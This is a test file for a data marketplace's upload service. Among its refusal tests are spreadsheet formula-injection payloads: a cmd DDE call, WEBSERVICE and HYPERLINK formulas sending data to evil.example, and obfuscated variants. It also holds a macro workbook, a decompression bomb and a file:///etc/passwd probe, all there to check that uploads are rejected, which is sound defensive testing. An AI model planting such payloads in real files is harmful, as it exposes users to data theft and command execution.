import { gzipSync } from 'node:zlib';
import { zipSync } from 'fflate';
import { describe, expect, it, onTestFinished, vi } from 'vitest';
import type { Sample, Stream } from '#contract/types.ts';
import { refusedReading } from '#server/domains/samples/addFile.ts';
import { Refusal } from '#server/kernel/refusal.ts';
import { SlowError } from '#server/tables/input.ts';
import { sweepFiles } from '#server/uploads/sweepFiles.ts';
import { exchangeForFile, openTestExchange, productBody } from '#tests/support/exchange.ts';
import { added, csv, stored, upload, uploadCut } from './fixture.ts';
import { slowness } from '#tests/support/slowness.ts';
import { changeRows } from '#tests/support/database/rows.ts';
import { subscriptionRow } from '#tests/support/ledgerFixture.ts';
import { statusAndBody } from '#tests/support/requests/statusAndBody.ts';

const server = await exchangeForFile({ env: { UPLOAD_LIMIT: '4' } });
await server.app.listen({ host: '127.0.0.1', port: 0 });
const seller = await server.join('user');
const rival = await server.join('user');
const category = await server.addCategory();
const product = (url: string, more: object = {}) => productBody({ subcategory: category, url, ...more });
const files = () => server.db.selectFrom('files').selectAll().orderBy('id').execute();
const listFile = async (bytes: string, more: object = {}) => {
  const { id } = await added(server, bytes, seller);
  return { file: id, id: await seller.list(product(`file:${id}`, more)) };
};
const buy = async (streamId: string) => {
  const buyer = await server.join('user');
  const reply = await buyer.call('POST', '/subscriptions/subscriptions', { stream_id: streamId, hours: 2 });
  return { ...buyer, address: new URL(reply.json<{ stream_url: string }>().stream_url) };
};
const read = (url: URL, headers: Record<string, string> = {}) =>
  server.app.inject({ url: url.pathname + url.search, headers });

it('refuses a file beyond the total size per person', async () => {
  const small = await openTestExchange({ env: { UPLOAD_TOTAL: '1' } });
  onTestFinished(() => small.close());
  const person = await small.join('user');
  const half = `name\n${`${'x'.repeat(999)}\n`.repeat(600)}`;
  await added(small, half, person);
  expect(await statusAndBody(upload(small, half, person))).toMatchObject([413, { code: 'storage_full' }]);
  await added(small, half, await small.join('user'));
});

describe('an uploaded file', () => {
  it('is measured on upload and sold like an address', async () => {
    const file = await added(server, csv, { ...seller, name: 'Levels 2024.csv' });
    expect(file).toMatchObject({ name: 'Levels 2024.csv', bytes: csv.length });
    expect(file.sample.schema.map(({ name }) => name)).toEqual(['day', 'station', 'level']);
    const id = await seller.list(product(`file:${file.id}`));
    const sample = await seller.call('GET', `/streams/streams/${id}/sample`);
    expect(sample.json<Sample>()).toMatchObject({ rows_measured: 40, measured_at: file.sample.measured_at });
    const { address } = await buy(id);
    const raw = await read(address);
    expect([raw.statusCode, raw.headers['content-type'], raw.body]).toEqual([200, 'text/csv', csv]);
    const part = await read(address, { range: 'bytes=4-10' });
    expect([part.statusCode, part.body, part.headers['content-range']]).toEqual([
      206,
      csv.slice(4, 11),
      `bytes 4-10/${csv.length}`,
    ]);
    expect((await read(address, { 'if-none-match': String(raw.headers['etag']) })).statusCode).toBe(304);
    const parquet = await read(address, { accept: 'application/vnd.apache.parquet' });
    expect([parquet.statusCode, parquet.rawPayload.toString('latin1', 0, 4)]).toEqual([200, 'PAR1']);
  });

  it('never has its address in an answer', async () => {
    const { id, file } = await listFile(csv);
    const buyer = await buy(id);
    const answers = await Promise.all([
      seller.call('GET', `/streams/streams/${id}`),
      seller.call('GET', `/streams/streams?owner=${seller.id}`),
      seller.call('GET', `/streams/streams/${id}/sample`),
      seller.call('GET', `/streams/streams/${id}/history`),
      seller.call('GET', '/streams/export-owned'),
      buyer.call('GET', `/streams/streams/${id}`),
      read(buyer.address),
      server.app.inject({ url: `/catalogue.jsonld?stream=${id}` }),
      server.app.inject({ url: `/product/${id}` }),
    ]);
    for (const { body, headers } of answers) expect(body + JSON.stringify(headers)).not.toContain(file);
    const data = await seller.call('GET', `/auth/users/${seller.id}/export`);
    expect(data.body).not.toContain(`file:${file}`);
    expect(answers[0]?.json<Stream>().file).toMatchObject({ name: 'levels.csv', bytes: csv.length });
    expect(answers[0]?.json<Stream>().url).toBeUndefined();
    expect(buyer.id && answers[5]?.json<Stream>().file).toBeUndefined();
  });

  it('belongs to its owner and to one product', async () => {
    const { id: file } = await added(server, csv, seller);
    const url = `file:${file}`;
    expect((await rival.call('POST', '/streams/streams', product(url))).json()).toMatchObject({
      fields: { url: 'is not one of your files: upload it again' },
    });
    expect((await rival.call('POST', '/streams/probe', { url })).statusCode).toBe(400);
    const own = await rival.list(product('https://data.example.org/rival'));
    expect((await rival.call('PUT', `/streams/streams/${own}`, { url })).statusCode).toBe(400);
    await seller.list(product(url));
    expect((await seller.call('POST', '/streams/streams', product(url))).statusCode).toBe(409);
    expect((await seller.call('POST', '/streams/probe', { url: 'file:///etc/passwd' })).statusCode).toBe(400);
  });

  it('is replaced atomically, while a reader of the earlier version reads on', async () => {
    const { id, file } = await listFile(csv);
    const { address } = await buy(id);
    const reading = await server.exchange.upstream.open(`file:${file}`);
    const next = 'day,station,level\n2025-01-01,S9,9.9\n2025-01-02,S9,9.8\n';
    const { id: newer } = await added(server, next, seller);
    expect((await seller.call('PUT', `/streams/streams/${id}`, { url: `file:${newer}` })).statusCode).toBe(200);
    expect((await read(address)).body).toBe(next);
    const sample = (await seller.call('GET', `/streams/streams/${id}/sample`)).json<Sample>();
    expect(sample.rows_measured).toBe(2);
    await changeRows(server.db, 'files', { id: file }, { replaced_at: '2020-01-01T00:00:00.000Z' });
    await sweepFiles(server.exchange);
    expect(stored(server)).not.toContain(file);
    expect(stored(server)).toContain(newer);
    expect(Buffer.concat(await reading.body.toArray()).toString()).toBe(csv);
    expect((await read(address)).body).toBe(next);
  });

  it('is not removed while a product has its address', async () => {
    const { id: file } = await added(server, csv, seller);
    const id = await seller.list(product(`file:${file}`));
    const old = { created_at: '2020-01-01T00:00:00.000Z', stream_id: null };
    await changeRows(server.db, 'files', { id: file }, old);
    expect((await seller.call('DELETE', `/streams/streams/${id}`)).statusCode).toBe(204);
    await sweepFiles(server.exchange);
    expect(stored(server)).toContain(file);
    await changeRows(server.db, 'streams', { id }, { url: '' });
    await sweepFiles(server.exchange);
    expect(stored(server)).not.toContain(file);
  });

  it('is refused for an algorithm that the exchange computes', async () => {
    const { id: file } = await added(server, csv, seller);
    const listing = product(`file:${file}`, { type: 'Algorithm', metadata: { analysis: 'summary' } });
    const reply = await seller.call('POST', '/streams/streams', listing);
    expect(reply.json()).toMatchObject({ fields: { url: 'is an uploaded file, not a page about the algorithm' } });
  });

  it('is removed if it and five newer files are not listed', async () => {
    const other = await server.join('user');
    const ids: string[] = [];
    for (let at = 0; at < 7; at += 1) ids.push((await added(server, `a,b\n${at},2\n3,4\n`, other)).id);
    expect((await files()).filter((file) => file.owner_id === other.id).map(({ id }) => id)).toEqual(ids.slice(2));
  });
});

describe('an interrupted upload', () => {
  const long = Buffer.from(csv + '2024-02-01,S1,1.0\n'.repeat(20_000));
  it.each([0, 1, 5_000, 70_000, long.length - 1])('leaves nothing after %i bytes', async (cutAt) => {
    const before = [stored(server), await files()];
    await uploadCut(server, long, cutAt, seller.token);
    await vi.waitFor(async () => expect([stored(server), await files()]).toEqual(before), {
      timeout: 10_000 * slowness(),
    });
  });

  it('is removed by the next start after a crash', async () => {
    const { id } = await added(server, csv, seller);
    await changeRows(server.db, 'files', { id }, { sample: null });
    await sweepFiles(server.exchange);
    expect(stored(server)).toContain(id);
    await sweepFiles(server.exchange, { isAlone: true });
    expect(stored(server)).not.toContain(id);
    expect((await files()).map((file) => file.id)).not.toContain(id);
  });
});

const wide = `${Array.from({ length: 10_000 }, (_, at) => `c${at}`).join(',')}\n${'1,'.repeat(9_999)}1\n`;
const sheet =
  '<?xml version="1.0"?><worksheet><sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData></worksheet>';
const usual = gzipSync(Buffer.concat([Buffer.from('a,b\n'), Buffer.alloc(3_000_000, `1,${'2'.repeat(97)}\n`)]));
const zip = Buffer.from(zipSync({ 'a.csv': Buffer.from(csv) }));

/** 30,000 rows. Only the last one has a formula. */
const longTable = `a,b\n${'1,x\n'.repeat(29_999)}1,"=WEBSERVICE(""https://evil.example/"")"\n`;

/** @param stored formula of the first cell, which has a stored value */
function workbook(rows: number, stored?: string, more: Record<string, string | Buffer> = {}): Buffer {
  const text = (at: string, value: string) => `<c r="${at}" t="inlineStr"><is><t>${value}</t></is></c>`;
  const formula = '=WEBSERVICE(&quot;https://evil.example/&quot;)';
  const lines = Array.from({ length: rows }, (_, at) => {
    const row = at + 2;
    const own = at === 0 && stored !== undefined ? `<f>${stored}</f>` : '';
    return `<row r="${row}"><c r="A${row}">${own}<v>1</v></c>${text(`B${row}`, stored === undefined && at === rows - 1 ? formula : 'x')}</row>`;
  });
  const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
  const links = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const packages = 'http://schemas.openxmlformats.org/package/2006/relationships';
  const parts = {
    '[Content_Types].xml':
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>',
    'xl/workbook.xml': `<workbook xmlns="${main}" xmlns:r="${links}"><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>`,
    'xl/_rels/workbook.xml.rels': `<Relationships xmlns="${packages}"><Relationship Id="r1" Type="${links}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
    'xl/worksheets/sheet1.xml': `<worksheet xmlns="${main}"><sheetData><row r="1">${text('A1', 'a')}${text('B1', 'b')}</row>${lines.join('')}</sheetData></worksheet>`,
    ...more,
  };
  return Buffer.from(
    zipSync(Object.fromEntries(Object.entries(parts).map(([name, part]) => [name, Buffer.from(part)]))),
  );
}

const [formula, webService] = [/spreadsheet formula/u, /\(=WEBSERVICE\(…\)/u];
const refused: [string, () => Buffer | string, RegExp, status?: number][] = [
  ['no content', () => '', /empty/u],
  ['more bytes than the limit', () => Buffer.alloc(4 * 2 ** 20 + 1, 'a,b\n'), /larger than 4 MB/u, 413],
  ['10,000 columns', () => wide, /10000 columns; at most 2000/u],
  ['a web page', () => '<!doctype html><table><tr><td>1</table>', /web page/u],
  ['a PDF document', () => '%PDF-1.7\n1 0 obj', /PDF/u],
  ['a picture', () => Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000', 'hex'), /not text/u],
  ['a program', () => Buffer.concat([Buffer.from('\u007FELF'), Buffer.alloc(4096)]), /not text/u],
  ['a table that is also a zip archive', () => Buffer.concat([Buffer.from(csv), zip]), /also a zip archive/u],
  ['a table that is also a PDF', () => `a,b\n1,%PDF-1.4\n`, /also a PDF/u],
  ['an archive followed by another', () => Buffer.concat([zip, Buffer.from('<script>1</script>')]), /behind the end/u],
  [
    'two files in an archive',
    () => Buffer.from(zipSync({ 'a.csv': Buffer.from('a\n1\n'), 'b.csv': Buffer.from('a\n1\n') })),
    /more than one file/u,
  ],
  [
    'a broken workbook',
    () => Buffer.from(zipSync({ 'xl/worksheets/sheet1.xml': Buffer.from(sheet) })).subarray(0, 90),
    /archive|workbook/u,
  ],
  ['a spreadsheet command', () => `a,b\n1,=cmd|' /C calc'!A0\n`, formula],
  ['a formula that calls an address', () => `a,b\n1,"=HYPERLINK(""https://evil.example/""&A1)"\n`, formula],
  [
    'a formula in UTF-16',
    () => Buffer.from(`\uFEFFa,b\n1,"=HYPERLINK(""https://evil.example/"")"\n`, 'utf16le'),
    formula,
  ],
  ['a compressed formula', () => gzipSync(`a,b\n1,"=WEBSERVICE(""https://evil.example/"")"\n2,3\n`), formula],
  ['a formula in row 30,000 of a compressed table', () => gzipSync(longTable), webService],
  [
    'a formula in row 30,000 of an archive',
    () => Buffer.from(zipSync({ 'a.csv': Buffer.from(longTable) })),
    webService,
  ],
  ['a formula as text in row 30,000 of a workbook', () => workbook(30_000), webService],
  [
    'a stored formula that calls an address',
    () => workbook(3, '1+_xlfn.WEBSERVICE(&quot;https://evil.example/&quot;&amp;B2)'),
    webService,
  ],
  ['a formula in entities', () => workbook(3, '&#87;EB&#x53;ERVICE(A1)'), webService],
  ['a formula in CDATA', () => workbook(3, '<![CDATA[WEBSERVICE(A1)]]>'), webService],
  ['a formula behind escaped filler', () => workbook(3, `"${'&quot;'.repeat(4_000)}"&amp;WEBSERVICE(A1)`), webService],
  [
    'a formula in a sheet of UTF-16 in another folder',
    () =>
      workbook(3, '1+1', {
        'data/s.xml': Buffer.from('<worksheet><c><f>WEBSERVICE(A1)</f></c></worksheet>', 'utf16le'),
      }),
    webService,
  ],
  [
    'a named formula',
    () =>
      workbook(3, 'X', {
        'xl/names.xml': '<definedNames><definedName name="X">CALL("a","b")</definedName></definedNames>',
      }),
    /\(=CALL\(…\)/u,
  ],
  [
    'a workbook that unpacks to 400 times its size',
    () => workbook(3, '1+1', Object.fromEntries(['1', '2', '3'].map((one) => [`xl/${one}.xml`, ' '.repeat(2 ** 25)]))),
    /larger when unpacked/u,
  ],
  [
    'a link to another program',
    () =>
      workbook(3, '[1]!a', {
        'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
      }),
    /starts a program/u,
  ],
  ['macros', () => workbook(3, '1+1', { 'xl/vbaProject.bin': 'x' }), /also a file with macros/u],
  [
    'an escaped formula',
    () => String.raw`[{"a":"x"},{"a":"\u003dWEBSERVICE(\u0022https://evil.example/\u0022)"}]`,
    formula,
  ],
];

it('reads other formulas of a workbook as their stored values', async () => {
  const reply = await upload(server, workbook(3, 'SUM(C1:C9)*CALLS+IMAGES(1)'), seller);
  expect(reply.statusCode).toBe(201);
  expect(reply.json<{ sample: { rows: unknown[] } }>().sample.rows[0]).toEqual({ a: 1, b: 'x' });
});

describe('checks of an uploaded file', () => {
  it.each(refused)('refuse content with a reason: %s', async (_name, bytes, reason, status = 422) => {
    const before = [stored(server), await files()];
    const reply = await upload(server, bytes(), seller);
    expect([reply.statusCode, reply.json<{ error: string }>().error]).toEqual([status, expect.stringMatching(reason)]);
    expect([stored(server), await files()]).toEqual(before);
  });

  it('accept a compressed table of usual size', async () => {
    expect((await upload(server, usual, seller)).statusCode).toBe(201);
  });

  it('report a slow read as busy, not as a fault of the file', () => {
    const slow = new Refusal(502, 'source_failed', 'a', { cause: new SlowError('a') });
    expect(refusedReading(slow)).toMatchObject({ status: 503, code: 'busy', retryAfter: 60 });
    expect(refusedReading(new Refusal(502, 'source_failed', 'a'))).toMatchObject({ status: 422 });
  });

  it('require a declared length', async () => {
    expect((await seller.call('POST', '/streams/files?name=a')).statusCode).toBe(411);
  });
});

describe('a price for data that is not listed yet', () => {
  const ask = async (columns: string[], subcategory: string) =>
    (await rival.call('POST', '/streams/prices', { subcategory, columns })).json<object>();

  it('is the range that similar products sold for', async () => {
    const group = await server.addCategory('Prices');
    const at = server.exchange.now().toISOString();
    const sellers = [seller, await server.join('user'), await server.join('user')];
    for (const [index, price] of [10, 20, 30_400, 40_000, 900_000].entries()) {
      const { id: owner, list } = sellers[index % 3] ?? seller;
      const id = await list({ subcategory: group, price });
      const names = price === 900_000 ? 'other\nthings' : 'Day\nstation_id\nlevel';
      await changeRows(server.db, 'streams', { id }, { buyers: 1, column_names: names });
      const values = {
        ...subscriptionRow(id, rival.id, owner),
        hours: 1,
        start_at: at,
        end_at: `2030-01-0${index + 1}T00:00:00.000Z`,
        price,
        total: price,
        created_at: at,
      };
      await server.db.insertInto('subscriptions').values(values).execute();
    }
    expect(await ask(['day', 'Station ID', 'level', 'note'], group)).toEqual({
      products: 4,
      similar: true,
      low: 20,
      middle: 30_000,
      high: 30_000,
    });
    expect(await ask(['x'], group)).toMatchObject({ products: 5, similar: false, middle: 30_000 });
    expect(await ask(['x'], category)).toEqual({ products: 0, similar: false });
    // Mean hours per month of the compared products, over the last three months.
    const sales = server.db.updateTable('subscriptions').where('user_id', '=', rival.id);
    await sales.set({ hours: 60 }).execute();
    expect(await ask(['x'], group)).toMatchObject({ products: 5, hours: 20 });
    await sales.where('seller_id', '=', seller.id).set({ hours: 45 }).execute();
    expect(await ask(['x'], group)).toMatchObject({ products: 5, hours: 18 });
    // Hidden, because most hours are those of one seller.
    await sales.where('seller_id', '=', seller.id).set({ hours: 200 }).execute();
    expect(await ask(['x'], group)).not.toHaveProperty('hours');
    await sales.set({ hours: 60 }).execute();
    await sales.set({ created_at: new Date(Date.parse(at) - 100 * 86_400_000).toISOString() }).execute();
    expect(await ask(['x'], group)).not.toHaveProperty('hours');
    const hidden = server.db.updateTable('streams').set({ visibility: 'private' });
    await hidden.where('owner_id', '=', sellers[2]?.id ?? '').execute();
    expect(await ask(['x'], group)).toEqual({ products: 0, similar: false });
  });
});
